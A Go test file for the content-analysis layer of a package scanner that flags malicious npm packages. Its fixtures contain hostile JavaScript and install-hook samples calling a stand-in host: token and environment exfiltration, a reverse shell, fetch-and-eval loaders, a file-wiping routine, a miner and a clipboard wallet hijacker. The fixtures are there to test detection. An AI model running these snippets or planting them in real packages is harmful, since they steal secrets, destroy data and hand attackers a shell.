package content

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/kennel-oss/kennel"
)

// told words what the layer says of a package: rules, with "!" for those that
// ask for a person.
func told(t *testing.T, release, previous map[string]string) map[string]bool {
	t.Helper()
	files := func(texts map[string]string) fstest.MapFS {
		out := fstest.MapFS{}
		for name, text := range texts {
			out["package/"+name] = &fstest.MapFile{Data: []byte(text)}
		}
		return out
	}
	g := kennel.Grants{Release: files(release)}
	if previous != nil {
		g.Previous = files(previous)
	}
	findings, err := New().Examine(context.Background(), kennel.NewSubject(kennel.Component{}, time.Time{}, g))
	if err != nil {
		t.Error(err)
	}
	out := map[string]bool{}
	for _, f := range findings {
		mark := ""
		if f.Severity > kennel.SeverityLow {
			mark = "!"
		}
		out[mark+f.Rule] = true
		if f.Title == "" || f.Innocent == "" || len(f.Evidence) == 0 || f.Layer != "content" {
			t.Errorf("a finding lacks something: %+v", f)
		}
	}
	return out
}

// What one piece of code is found to do when importing, or installing, a
// package reaches it.
func TestChains(t *testing.T) {
	for _, c := range []struct{ name, reach, code, want string }{
		{"decrypted module", "main", `var c=require('crypto'),t=require('./data');var d=c.createDecipher('aes256',process.env.npm_package_description);
			var n=d.update(t[0],'hex','utf8');n+=d.final('utf8');var m=new module.constructor;m.paths=module.paths;m._compile(n,'')`, "!decode-run"},
		{"messages run", "main", `const W=require('ws');const w=new W('wss://a.example');w.on('message',m=>{new Function('require',m.toString())(require)})`, "download-run"},
		{"messages run at install", "postinstall", `const W=require('ws');const w=new W('wss://a.example');w.on('message',m=>{eval(m.toString())})`, "!download-run"},
		{"installer and runner", "preinstall", `const {execSync,spawn}=require('child_process');execSync('curl -fsSL https://a.example/install | bash');spawn('bun',['run','./b.js'],{detached:true})`, "!install-chain"},
		{"tokens out of profiles", "main", `const fs=require('fs'),p=require('path');const dir=p.join(process.env.APPDATA,'discord','Local Storage','leveldb');
			for(const f of fs.readdirSync(dir)){const t=fs.readFileSync(p.join(dir,f),'utf8').match(/x/g);require('axios').post('https://a.example',{content:t})}`, "!exfiltration"},
		{"host facts at install", "preinstall", `const os=require('os'),https=require('https');const d=JSON.stringify({h:os.hostname(),u:os.userInfo().username,d:__dirname});
			const r=https.request({hostname:'a.example',method:'POST'});r.write(d);r.end()`, "!exfiltration"},
		{"overwrites all", "main", `const fs=require('fs'),p=require('path');function h(d){for(const f of fs.readdirSync(d)){const t=p.join(d,f);if(fs.statSync(t).isDirectory())h(t);else fs.writeFileSync(t,'heart')}}
			require('https').get('https://geo.example',r=>{r.on('data',d=>{if(JSON.parse(d).country=='xx')h('../../')})})`, "!destruction"},
		{"shell joined to a socket", "postinstall", `const n=require('net'),c=require('child_process');const s=c.spawn('/bin/sh',[]);const k=new n.Socket();k.connect(80,'a.example',()=>{k.pipe(s.stdin);s.stdout.pipe(k)})`, "!download-run"},
		{"async function made", "postinstall", `const A=Object.getPrototypeOf(async function(){}).constructor;fetch('https://a.example').then(r=>r.text()).then(t=>new A('require',t)(require))`, "!download-run"},
		{"code in a picture", "main", `const fs=require('fs');const b=fs.readFileSync(require('path').join(__dirname,'logo.png'));eval(b.slice(90).toString())`, "!decode-run"},
		{"files in names", "main", `const dns=require('dns'),fs=require('fs'),os=require('os');for(const f of fs.readdirSync(os.homedir()))dns.lookup(f+'.a.example',()=>{})`, "!exfiltration"},
		{"request runs", "main", `module.exports=(req,res,next)=>{const c=req.headers['x-a'];if(c)require('vm').runInThisContext(Buffer.from(c,'base64').toString());next()}`, "!download-run"},
		{"miner", "postinstall", `require('child_process').spawn('./worker',['-o','stratum+tcp://pool.example:3333'],{detached:true}).unref()`, "!unusual-host"},
		{"clipboard", "main", `const c=require('clipboardy');setInterval(()=>{const t=c.readSync();if(/^0x[a-f0-9]{40}$/.test(t))c.writeSync(mine)},500)`, "!wallet-hook"},
		{"characters shifted", "main", `const s=[102,103,104,105,106].map(c=>String.fromCharCode(c-1)).join('');eval(s)`, "decode-run"},
		{"data module", "main", `import('data:text/javascript;base64,Y29uc29sZS5sb2coMSk=')`, "!decode-run"},
		{"dropped program", "postinstall", `const fs=require('fs');const b=Buffer.from('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA==','base64');fs.writeFileSync('/tmp/a.exe',b);require('child_process').execFile('/tmp/a.exe')`, "!decode-run"},
		// What is ordinary asks for nobody.
		{"client", "main", `const axios=require('axios');module.exports=()=>axios.post('https://api.example',{a:1},{headers:{Authorization:'Bearer '+process.env.API_KEY}})`, ""},
		{"builder", "postinstall", `const {spawnSync}=require('child_process');spawnSync('node-gyp',['rebuild'],{stdio:'inherit',env:process.env})`, ""},
		{"worker as text", "main", `module.exports=()=>new Worker(URL.createObjectURL(new Blob([atob('b25tZXNzYWdlPWZ1bmN0aW9uKGUpe3Bvc3RNZXNzYWdlKDEpfQ==')])))`, ""},
		{"templates", "main", `const fs=require('fs');exports.compile=f=>new Function('data',translate(fs.readFileSync(f,'utf8')))`, ""},
		{"global", "main", `var g=Function('return this')();var root=eval('this');module.exports=g.process`, ""},
		{"configuration", "main", `const fs=require('fs'),os=require('os');const t=fs.readFileSync(os.homedir()+'/.tool/config.json');fetch('https://a.example',{headers:{auth:t}})`, ""},
	} {
		manifest := `{"name":"a","version":"1.0.0","main":"a.js"}`
		if c.reach != "main" {
			manifest = fmt.Sprintf(`{"name":"a","version":"1.0.0","main":"b.js","scripts":{%q:"node a.js"}}`, c.reach)
		}
		got := told(t, map[string]string{"package.json": manifest, "a.js": c.code}, nil)
		if c.want != "" && !got[c.want] {
			t.Errorf("%s: %v, want %s", c.name, got, c.want)
		}
		for rule := range got {
			if c.want == "" && rule[0] == '!' {
				t.Errorf("%s: %v, want nothing to ask for", c.name, got)
			}
		}
	}
}

// What a hook says itself is read like what it starts.
func TestHooks(t *testing.T) {
	files := map[string]string{"scripts/get.js": "require('https').get('https://a.example',r=>r.on('data',d=>eval(d.toString())))"}
	for hook, want := range map[string]string{
		`node -e "require('https').get('https://a.example',r=>r.on('data',d=>eval(d.toString())))"`: "!download-run",
		"node scripts/get":                                    "!download-run",
		"node ./scripts/get.js || exit 0":                     "!download-run",
		"cd scripts && node get.js":                           "!download-run",
		"node --no-warnings ./scripts/get.js --silent":        "!download-run",
		"start /B node scripts/get.js & node a.js":            "!download-run",
		"npm run fetch --silent":                              "!download-run",
		"node -r ./scripts/get.js a.js":                       "!download-run",
		"curl -s https://a.example/x | sh":                    "!download-run",
		"curl -d \"$(env)\" https://a.example":                "!exfiltration",
		"node -e \"try{require('./scripts/get')}catch(e){}\"": "!download-run",
		"node-gyp rebuild":                                    "",
	} {
		files["package.json"] = fmt.Sprintf(`{"name":"a","version":"1.0.0","scripts":{"postinstall":%q,"fetch":"node scripts/get.js"}}`, hook)
		got := told(t, files, nil)
		if want != "" && !got[want] || want == "" && len(got) > 0 {
			t.Errorf("%s: %v, want %q", hook, got, want)
		}
	}
}

// What was not looked at is told beside what was found.
func TestNotWhollyLookedAt(t *testing.T) {
	fsys := fstest.MapFS{
		"package.json": {Data: []byte(`{"name":"a","version":"1.0.0","scripts":{"install":"node a.js"}}`)},
		"a.js":         {Data: []byte("fetch('https://a.example').then(r=>r.text()).then(eval);" + "require('https').get(u,r=>r.on('data',d=>eval(d.toString())))")},
		"deep.js":      {Data: []byte(strings.Repeat("(", 1<<16))},
	}
	findings, err := New().Examine(context.Background(), kennel.NewSubject(kennel.Component{}, time.Time{}, kennel.Grants{Release: fsys}))
	if gap := (*kennel.CouldNotLook)(nil); !errors.As(err, &gap) || !strings.Contains(err.Error(), "deep.js") {
		t.Errorf("error %v, want one that names deep.js", err)
	}
	if len(findings) == 0 {
		t.Error("nothing was found beside")
	}
	if _, err := New().Examine(context.Background(), kennel.NewSubject(kennel.Component{}, time.Time{}, kennel.Grants{})); !errors.Is(err, kennel.ErrNotGranted) {
		t.Errorf("without a release: %v", err)
	}
}

// The same chain is news when the release before did not have it.
func TestDifference(t *testing.T) {
	manifest := func(version, hook string) string {
		return fmt.Sprintf(`{"name":"a","version":%q,"scripts":{%s}}`, version, hook)
	}
	const run = `const W=require('ws');const w=new W('wss://a.example');w.on('message',m=>{new Function(m.toString())()})`
	for _, c := range []struct {
		name, rule        string
		release, previous map[string]string
	}{
		{"appeared", "!download-run", map[string]string{"package.json": manifest("2", ""), "index.js": run}, map[string]string{"package.json": manifest("1", ""), "index.js": "x()"}},
		{"as before", "download-run", map[string]string{"package.json": manifest("2", ""), "index.js": run}, map[string]string{"package.json": manifest("1", ""), "index.js": run}},
		{"hook", "!hook-appeared", map[string]string{"package.json": manifest("2", `"postinstall":"node b.js"`), "b.js": "require('https').get('https://a.example',r=>r.pipe(x))"},
			map[string]string{"package.json": manifest("1", "")}},
		{"known tool", "hook-appeared", map[string]string{"package.json": manifest("2", `"install":"node-gyp-build"`)}, map[string]string{"package.json": manifest("1", "")}},
		{"capability", "capability-appeared", map[string]string{"package.json": manifest("2", ""), "index.js": "fetch('https://a.example')"}, map[string]string{"package.json": manifest("1", ""), "index.js": "x()"}},
	} {
		if got := told(t, c.release, c.previous); !got[c.rule] {
			t.Errorf("%s: %v, want %s", c.name, got, c.rule)
		}
	}
}
